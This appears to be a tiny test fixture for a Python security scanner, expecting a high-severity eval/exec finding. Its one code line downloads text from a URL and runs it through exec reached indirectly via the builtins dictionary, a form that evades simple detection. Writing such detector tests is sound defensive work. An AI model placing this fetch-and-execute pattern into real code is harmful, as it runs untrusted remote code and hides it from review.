# expect: python.eval_exec high
# note: exec reached through the builtins dict
# path: app/builtins_subscript_exec.py
import requests
__builtins__.__dict__["exec"](requests.get(URL).text)
